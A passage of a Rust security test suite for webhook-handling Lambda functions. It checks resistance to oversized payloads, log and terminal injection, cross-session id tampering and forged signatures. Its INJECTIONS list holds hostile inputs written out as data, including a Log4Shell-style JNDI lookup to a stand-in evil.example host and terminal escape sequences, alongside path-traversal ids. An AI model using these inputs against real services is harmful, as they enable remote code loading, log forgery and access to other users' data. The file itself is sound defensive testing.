        ("a long id", start, format!(r#"{{"session_id":"{}"}}"#, "x".repeat(MOST))),
        ("escapes", start, exotel(&format!(r#""bot_name":"{}""#, repeated(r"\u0000", "")))),
        ("a million events", Webhook::InsightsEvents, exotel(&format!(r#""events":[{empty}]"#))),
        ("a million insights", Webhook::InsightsEvents, exotel(&format!(r#""events":[{}]"#, numbered(insight)))),
        ("a million turns", turns, transcripts(&numbered(turn))),
        ("a million empty turns", turns, transcripts(&empty)),
        ("a million segments", turns, transcripts(&format!(r#"{{"transcript_segments":[{empty}]}}"#))),
        ("a million entries", Webhook::SessionCompleted, vocobase_data(&format!(r#""transcript":[{empty}]"#))),
        ("a million variables", Webhook::SessionCompleted, vocobase_data(&format!(r#""variables":{{{keys}}}"#))),
        ("a number", Webhook::SessionCompleted, vocobase_data(&format!(r#""credits_used":{digits}"#))),
        ("an exponent", Webhook::SessionCompleted, vocobase_data(&format!(r#""duration_seconds":1e{digits}"#))),
        // What is just taken costs more than what is not.
        (
            "the most keys",
            start,
            exotel(&format!(r#""custom_parameters":{{{}}}"#, &keys[..keys[..1_000_000].rfind(',').unwrap()])),
        ),
        ("one turn too many", turns, transcripts(&(0..10_001).map(turn).collect::<Vec<_>>().join(","))),
        (
            "the most segments",
            turns,
            transcripts(&format!(r#"{{"transcript_segments":[{}]}}"#, most(r#"{"text":"a"}"#))),
        ),
        (
            "the most entries",
            Webhook::SessionCompleted,
            vocobase_data(&format!(r#""transcript":[{}]"#, most(r#"{"content":"a"}"#))),
        ),
    ]
}

/// The function's own binary, with an eighth of the stack that Lambda gives.
fn start_small(name: &str, environment: &BTreeMap<String, String>, runtime_api: &str) -> Child {
    let mut small = Command::new("/bin/sh");
    small.args(["-c", "ulimit -s 1024 && exec \"$0\""]).arg(tests::function(name));
    spawn(small, name, environment, runtime_api)
}

/// The most memory that a process ever had, in KiB.
fn peak(process: &Child) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", process.id().expect("it runs"))).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_body_breaks_the_stack_or_takes_more_memory_or_time_than_there_is() {
    let world = World::new().await;
    let mut environment = environment(&world);
    environment.insert("LOG_LEVEL".to_owned(), "info".to_owned());
    // A busy machine's test build is slower than what is deployed: the most that may be allowed.
    environment.insert("DEADLINE_MS".to_owned(), "10000".to_owned());
    let mut running: BTreeMap<&str, (RuntimeApi, Child)> = BTreeMap::new();
    for (what, webhook, body) in bombs() {
        if !running.contains_key(webhook.name()) {
            let api = RuntimeApi::start().await;
            let function = start_small(webhook.name(), &environment, &api.address);
            running.insert(webhook.name(), (api, function));
        }
        let (api, function) = running.get_mut(webhook.name()).unwrap();
        let sent = event(&world, webhook, &body, false);
        assert!(sent.to_string().len() < 6_291_456, "{what}");
        let answered = tokio::time::timeout(Duration::from_mins(1), api.invoke(sent)).await.expect(what);
        assert_eq!(answered["statusCode"], 200, "{what}: {answered}");
        // Lambda ends a function that needs more than its 128 MB.
        let peak = peak(function);
        assert!(peak < 100 * 1024, "{what}: {peak} KiB");
        println!("{what}: {peak} KiB at most so far");
        let digest = tests::sha256(body.as_bytes());
        let kept = world.items("events").await.into_iter().any(|item| text(&item, "body_sha256") == digest);
        assert!(kept, "{what} is not kept");
    }
    // They go on.
    for (name, (mut api, mut function)) in running {
        let body = r#"{"session_id":"s2","data":{"session_id":"s2"}}"#;
        let answered = api.invoke(event(&world, name.parse().unwrap(), body, false)).await;
        assert_eq!(answered["statusCode"], 200, "{name}");
        function.kill().await.expect("it can be killed");
    }
}

// Ids that are more than ids.

/// Ids that would break a line, command a terminal, or end a value of a log.
const INJECTIONS: [&str; 9] = [
    "a\nb",
    "a\r\n{\"level\":\"ERROR\",\"message\":\"delivery\",\"outcome\":\"stored\"}",
    "a\u{1b}[2J\u{1b}]0;title\u{7}",
    "a\u{9b}31m\u{85}b",
    "a\",\"outcome\":\"refused",
    "a outcome=\"refused\" status=401",
    "a\u{0}\u{8}\u{7f}b",
    "${jndi:ldap://evil.example/a}%n%s{}",
    "\u{202e}\u{2028}\u{2029}\u{feff}",
];

fn is_one_plain_line(line: &str) -> bool {
    !line.chars().any(char::is_control)
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_ids_hold_one_event_is_one_line_of_the_log_and_nothing_on_it_commands_a_terminal() {
    let world = World::new().await;
    for webhook in [Webhook::TranscriptEvents, Webhook::SessionCompleted] {
        let mut api = RuntimeApi::start().await;
        let mut function = start_small(webhook.name(), &environment(&world), &api.address);
        let mut outcomes = Vec::new();
        for id in INJECTIONS {
            let body = match webhook.provider() {
                Provider::Exotel => json!({ "session_id": id, "bot_id": id, "bot_name": id, "trigger_reason": id,
                    "session_state": id, "events": [{ "event_type": id, "event_data": { "value": id } }] }),
                Provider::Vocobase => json!({ "data": { "session_id": id, "agent_id": id, "agent_name": id,
                    "recording_url": format!("https://{}/r.wav", id), "call": { "status": id } } }),
            };
            assert_eq!(api.invoke(event(&world, webhook, &body.to_string(), false)).await["statusCode"], 200, "{id:?}");
            outcomes.push("stored");
            let odd = json!({ "event": id, "events": id, "data": id }).to_string();
            assert_eq!(api.invoke(event(&world, webhook, &odd, false)).await["statusCode"], 200, "{id:?}");
            outcomes.push("quarantined");
        }
        function.kill().await.expect("it can be killed");
        let output = String::from_utf8(function.wait_with_output().await.expect("its output").stdout).expect("text");
        let mut found = Vec::new();
        for line in output.split_terminator('\n') {
            assert!(is_one_plain_line(line), "{line:?}");
            let line: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("no JSON: {line:?}"));
            if line["message"] == "delivery" && line["target"] == "shared::webhook" {
                found.push(line["outcome"].as_str().unwrap_or_default().to_owned());
            }
        }
        assert_eq!(found, outcomes, "{output}");
    }

    // As a terminal sees it: the local run's lines, and the command's.
    let log = Log::of(&["recording_archiver", "shared"]);
    for id in INJECTIONS {
        let key = SessionKey::new(Provider::Vocobase, id).unwrap();
        let outcome = archiver(&world).archive(&key, "worker", soon()).with_subscriber(log.dispatch.clone()).await;
        assert_eq!(outcome.unwrap(), Outcome::GivenUp(State::Rejected), "{id:?}");
    }
    let heard = log.heard();
    assert_eq!(heard.lines().count(), INJECTIONS.len(), "{heard:?}");
    assert!(heard.lines().all(is_one_plain_line), "{heard:?}");
    let port = world.run.base.rsplit_once(':').unwrap().1;
    let output = Command::new(tests::hookswitch()).args(["recordings", "list", "--port", port]).output().await.unwrap();
    let listed = String::from_utf8(output.stdout).unwrap();
    assert_eq!(listed.lines().count(), 1 + INJECTIONS.len(), "{listed:?}");
    assert!(listed.lines().all(is_one_plain_line), "{listed:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_id_reaches_the_items_of_another_call_or_of_the_quarantine() {
    let world = World::with(&[], at(SENT_AT)).await;
    let day = &SENT_AT[..10];
    let (aside, victim) = (format!("quarantine#{day}#0"), "exotel#victim".to_owned());
    assert_eq!(
        world.deliver(Webhook::SessionStart, r#"{"session_id":"victim","contact_uri":"+911"}"#).await.status,
        200
    );
    assert_eq!(world.deliver(Webhook::SessionStart, "not JSON").await.status, 200);
    let of = async |session: &str| {
        let mut items = Vec::new();
        for table in TABLES {
            items.extend(world.items_of(table, session).await);
        }
        items
    };
    let (before, quarantined) = (of(&victim).await, world.quarantined().await);
    let ids = [
        &aside,
        &victim,
        "#victim",
        "victim#",
        "victim\0",
        "victim\n",
        " victim",
        "VICTIM",
        "victim#000001#b1",
        "#",
        "vocobase#victim",
        "../victim",
        "victim/",
        "default",
        "-",
    ];
    let event = json!({ "event_type": "transcript", "event_data": { "transcripts": [
        { "sequence": 1, "transcript_segments": [{ "text": "Hello" }] }] } });
    for id in ids {
        let body =
            json!({ "session_id": id, "bot_id": id, "trigger_reason": id, "contact_uri": id, "events": [event] });
        assert_eq!(world.deliver(Webhook::TranscriptEvents, body.to_string()).await.status, 200, "{id:?}");
        let body = json!({ "data": { "session_id": id, "agent_id": id, "recording_url": "https://b.s3.amazonaws.com/r",
            "transcript": [{ "content": "Hello" }] } });
        assert_eq!(world.deliver(Webhook::SessionCompleted, body.to_string()).await.status, 200, "{id:?}");
        // Its own items, under each platform's name.
        for (provider, count) in [("exotel", 3), ("vocobase", 4)] {
            assert_eq!(of(&format!("{provider}#{id}")).await.len(), count, "{provider} {id:?}");
        }
    }
    assert_eq!((of(&victim).await, world.quarantined().await), (before, quarantined));
    let calls = world.items("sessions").await;
    assert_eq!(sessions(&calls).into_iter().collect::<BTreeSet<_>>().len(), 1 + 2 * ids.len());
    // Neither can an id be too long for its key, and so stop the call from being kept.
    for id in ["x".repeat(3000), "\u{1f4de}".repeat(600)] {
        let before = world.quarantined().await.len();
        let body = json!({ "session_id": id, "data": { "session_id": id } }).to_string();
        for webhook in [Webhook::SessionEnd, Webhook::SessionCompleted] {
            assert_eq!(world.deliver(webhook, body.clone()).await.status, 200);
        }
        assert_eq!(world.quarantined().await.len(), before + 2);
    }
}

// What a forgery costs.

/// Counts what an instance asks of its stores.
#[derive(Clone, Debug, Default)]
struct Asked(Arc<AtomicUsize>);

impl Intercept for Asked {
    fn name(&self) -> &'static str {
        "Asked"
    }

    fn modify_before_transmit(
        &self,
        _: &mut BeforeTransmitInterceptorContextMut<'_>,
        _: &RuntimeComponents,
        _: &mut ConfigBag,
    ) -> Result<(), BoxError> {
        self.0.fetch_add(1, Ordering::SeqCst);
        Ok(())
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_forgeries_asks_neither_table_nor_bucket_for_anything() {
    let world = World::with(&SECRETS, at(SENT_AT)).await;
    let big = "x".repeat(5_000_000);
    for webhook in Webhook::ALL {
        let asked = Asked::default();
        let app: App = world.instance(webhook, |clients| between(clients, &asked), at(SENT_AT));
        let send = async |request: http::request::Builder, body: &str| {
            cli::dev::call(webhook, &app, request.body(Body::from(body.to_owned())).unwrap()).await.status().as_u16()
        };
        let zeros = "0".repeat(64);
        for nth in 0..200 {
            let signed = |signature: String, timestamp: &str| {
                let request = http::Request::post(format!("/?token=k1.{}", &signature[7..]));
                request.header(vocobase::SIGNATURE, signature).header(vocobase::TIMESTAMP, timestamp)
            };
            let body = format!(r#"{{"session_id":"s{nth}","data":{{"session_id":"s{nth}"}}}}"#);
            let stale = Instant::parse(SENT_AT).unwrap().plus_seconds(-3600).to_string();
            let rightly_but_late = vocobase::sign(&Secret::new("whsec_known"), &stale, body.as_bytes());
            for request in [
                http::Request::post("/"),
                http::Request::post(format!("/?token=k9.{zeros}")),
                http::Request::post(format!("/s{nth}/k1.{zeros}")),
                signed(format!("sha256={zeros}"), SENT_AT),
                signed(rightly_but_late, &stale),
            ] {
                assert_eq!(send(request, &body).await, 401);
            }
            for method in [Method::GET, Method::PUT, Method::PATCH, Method::DELETE, Method::OPTIONS, Method::HEAD] {
                assert_eq!(send(http::Request::builder().method(method).uri("/"), &body).await, 405);
            }
        }
        assert_eq!(send(http::Request::post(format!("/?token=k1.{zeros}")), &big).await, 401);
        if webhook.provider() == Provider::Exotel {
            let token = known().session_token(webhook, "s1").unwrap();
            let other = http::Request::post(format!("/?session=s1&token={token}"));
            assert_eq!(send(other, r#"{"session_id":"s2"}"#).await, 401);
        }
        assert_eq!(asked.0.load(Ordering::SeqCst), 0, "{}", webhook.name());
        // It would have been counted.
        let honest = world.request(webhook, br#"{"session_id":"s1","data":{"session_id":"s1"}}"#);
        assert_eq!(cli::dev::call(webhook, &app, honest).await.status(), 200);
        assert!(asked.0.load(Ordering::SeqCst) > 1);
    }
}

// The page.

/// The names of all tests, and of those in this file.
fn test_names() -> (BTreeSet<String>, BTreeSet<String>) {
    fn below(folder: &Path, found: &mut BTreeSet<String>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                below(&path, found);
            } else if path.extension().is_some_and(|extension| extension == "rs") {
                found.extend(tests_of(&std::fs::read_to_string(&path).unwrap()));
            }
        }
    }
    let mut all = BTreeSet::new();
    for folder in ["stories", "../shared/src", "../functions", "../cli/src"] {
        below(Path::new(folder), &mut all);
    }
    (all, tests_of(&std::fs::read_to_string("stories/security.rs").unwrap()))
}

fn tests_of(source: &str) -> BTreeSet<String> {
    let after_attribute = source
        .lines()
        .zip(source.lines().skip(1))
        .filter(|(attribute, _)| attribute.trim() == "#[test]" || attribute.trim().starts_with("#[tokio::test"));
    let name = |line: &str| Some(line.split_once("fn ")?.1.split('(').next()?.to_owned());
    after_attribute.filter_map(|(_, line)| name(line)).collect()
}

#[test]
fn every_test_that_the_security_page_names_exists_and_every_story_here_is_named() {
    let page = std::fs::read_to_string("../docs/security.md").unwrap();
    let (all, here) = test_names();
    let threats = page.split("\n| threat |").nth(1).unwrap().split("\n\n").next().unwrap();
    let rows = threats.lines().skip(2).filter_map(|line| line.rsplit(" | ").next());
    let named: BTreeSet<String> = rows
        .flat_map(|cell| cell.split('`').skip(1).step_by(2))
        .map(str::to_owned)
        .filter(|name| name.contains('_'))
        .collect();
    assert!(named.len() > 30, "the page names {} tests", named.len());
    let unknown: Vec<_> = named.difference(&all).collect();
    assert!(unknown.is_empty(), "docs/security.md names what is no test: {unknown:?}");
    let own = "every_test_that_the_security_page_names_exists_and_every_story_here_is_named";
    let unnamed: Vec<_> = here.difference(&named).filter(|name| *name != own).collect();
    assert!(unnamed.is_empty(), "docs/security.md does not name {unnamed:?}");
}
